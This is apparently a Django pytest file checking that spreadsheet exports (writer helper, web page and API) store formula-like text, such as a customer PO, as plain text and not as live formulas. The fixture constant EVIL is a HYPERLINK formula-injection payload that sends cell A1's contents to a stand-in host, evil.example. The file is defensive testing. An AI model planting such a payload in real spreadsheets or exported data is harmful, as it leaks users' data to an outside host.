"""No exported cell of text runs as a formula (OWASP CSV injection): the API, the page, the writer."""

from __future__ import annotations

import io
import urllib.request
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from gendan.demodata import DEMO_PASSWORD
from gendan.exports.sheets import append_row
from gendan.orders.models import Order
from gendan.orders.tests.test_api import Http

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def written(values: list[object]) -> list[tuple[object, str, bool]]:
    book = Workbook()
    append_row(book.active, values)
    buffer = io.BytesIO()
    book.save(buffer)
    cells = load_workbook(io.BytesIO(buffer.getvalue())).active[1]
    return [(c.value, c.data_type, c.quotePrefix) for c in cells]


def test_text_that_starts_like_a_formula_is_written_as_text():
    cells = written([EVIL, "+1", "-2", "@SUM(A1)", "\tx", "\rx", "plain", None, 3, -4.5])
    assert cells[5][1:] == ("s", True)  # XML reads a carriage return back as a line feed
    cells[5] = ("\rx", *cells[5][1:])
    assert cells == [
        (EVIL, "s", True),
        ("+1", "s", True),
        ("-2", "s", True),
        ("@SUM(A1)", "s", True),
        ("\tx", "s", True),
        ("\rx", "s", True),
        ("plain", "s", False),
        (None, "n", False),
        (3, "n", False),
        (-4.5, "n", False),
    ]


def po_row(content: bytes) -> dict[str, object]:
    sheet = load_workbook(io.BytesIO(content))["orders"]
    header = [c.value for c in sheet[1]]
    row = sheet[2]
    return {h: (c.value, c.data_type) for h, c in zip(header, row, strict=True)}


@pytest.fixture
def evil_order(world):
    order = world.order(lines=[("BC-101", 100, "12.50")])
    Order.objects.filter(pk=order.pk).update(customer_po=EVIL)
    return order


@pytest.mark.django_db
def test_the_page_export_returns_the_po_as_text_and_numbers_as_numbers(client, world, evil_order):
    client.force_login(world.users["merch"])
    response = client.get(reverse("web:order_export"))
    assert response.status_code == 200
    row = po_row(response.content)
    assert row["customer_po"] == (EVIL, "s")
    assert row["quantity"] == (100, "n")
    assert Decimal(str(row["unit_price"][0])) == Decimal("12.50") and row["unit_price"][1] == "n"


@pytest.mark.django_db(transaction=True)
def test_the_api_export_over_http_returns_the_po_as_text(live_server, world, evil_order):
    token = Http(live_server.url).token("merch", DEMO_PASSWORD)
    request = urllib.request.Request(
        live_server.url + "/api/v1/orders/export.xlsx",
        headers={"Authorization": f"Bearer {token}"},
    )
    with urllib.request.urlopen(request, timeout=30) as response:
        content = response.read()
    row = po_row(content)
    assert row["customer_po"] == (EVIL, "s")
    assert row["quantity"] == (100, "n")
    sheet = load_workbook(io.BytesIO(content))["orders"]
    assert all(c.data_type != "f" for r in sheet.iter_rows() for c in r)
